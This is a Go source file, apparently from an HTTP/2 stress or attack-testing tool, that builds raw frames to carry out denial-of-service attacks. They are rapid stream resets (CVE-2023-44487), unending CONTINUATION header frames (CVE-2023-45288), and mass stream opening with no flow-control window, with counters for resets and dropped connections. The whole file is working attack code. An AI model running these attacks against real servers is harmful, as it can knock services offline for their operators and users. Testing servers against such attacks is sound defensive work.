package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"math"
	"net"
	"time"
)

// Attacks on HTTP/2 are frames that no library would send.

const frameContinuation = 9

// A frameWriter is a connection of HTTP/2 of an attacker.
type frameWriter struct {
	net.Conn
	host   string
	stream uint32 // the last one; before the first −1
}

// frames begins a connection of HTTP/2 and calls attack, which writes to it until that fails. window is how much the
// server may send on each stream.
func (s *attackClient) frames(ctx context.Context, window uint32, attack func(w *frameWriter) error) error {
	c, err := s.dialer.DialContext(ctx, "tcp", s.host)
	if err != nil {
		return err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	const settingsInitialWindowSize = 4
	start := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	start = appendFrame(start, frameSettings, 0, 0,
		binary.BigEndian.AppendUint32([]byte{0, settingsInitialWindowSize}, window))
	if _, err = c.Write(start); err != nil {
		return err
	}
	go s.countResets(c)
	if err = attack(&frameWriter{c, s.host, math.MaxUint32}); ctx.Err() == nil {
		s.cut.Add(1)
	}
	return err
}

// countResets reads the server's frames.
func (s *attackClient) countResets(from io.Reader) {
	head := make([]byte, frameHead)
	for {
		if _, err := io.ReadFull(from, head); err != nil {
			return
		}
		if head[3] == frameReset {
			s.reset.Add(1)
		}
		if _, err := io.CopyN(io.Discard, from, int64(head[0])<<16|int64(head[1])<<8|int64(head[2])); err != nil {
			return
		}
	}
}

// get appends the frame of a request on a new stream.
func (w *frameWriter) get(dst []byte, path string, flags byte) []byte {
	w.stream += 2
	block := appendText([]byte{0x82, 0x86, 0x04}, path) // :method GET, :scheme http, :path
	block = appendText(append(block, 0x01), w.host)     // :authority
	return appendFrame(dst, frameHeaders, flags, w.stream, block)
}

// rapidResets asks for streams and gives each up at once (CVE-2023-44487).
func (s *attackClient) rapidResets(ctx context.Context) error {
	return s.frames(ctx, math.MaxInt32, func(w *frameWriter) (err error) {
		const cancel = 8
		for err == nil && ctx.Err() == nil {
			var batch []byte
			for range 100 {
				batch = w.get(batch, "/flights", flagEndHeaders|flagEndStream)
				batch = appendFrame(batch, frameReset, 0, w.stream, []byte{0, 0, 0, cancel})
			}
			s.asked.Add(100)
			_, err = w.Write(batch)
		}
		return err
	})
}

// continuations sends headers that do not end (CVE-2023-45288).
func (s *attackClient) continuations(ctx context.Context) error {
	return s.frames(ctx, math.MaxInt32, func(w *frameWriter) (err error) {
		header := appendText(appendText([]byte{0}, "x-a"), string(bytes.Repeat([]byte{'a'}, 100)))
		part := bytes.Repeat(header, 16<<10/len(header))
		frame := w.get(nil, "/flights", flagEndStream)
		for err == nil && ctx.Err() == nil {
			_, err = w.Write(frame)
			frame = appendFrame(nil, frameContinuation, 0, w.stream, part)
		}
		return err
	})
}

// streams asks for n streams at once, and opens no flow control window. It pings, which shows whether the connection
// is still there.
func (s *attackClient) streams(ctx context.Context, path string, n int, window uint32) error {
	return s.frames(ctx, window, func(w *frameWriter) (err error) {
		var all []byte
		for range n {
			all = w.get(all, path, flagEndHeaders|flagEndStream)
		}
		s.asked.Add(int64(n))
		for err == nil && ctx.Err() == nil {
			_, err = w.Write(all)
			all = appendFrame(nil, framePing, 0, 0, make([]byte, 8))
			select {
			case <-time.After(time.Second):
			case <-ctx.Done():
			}
		}
		return err
	})
}
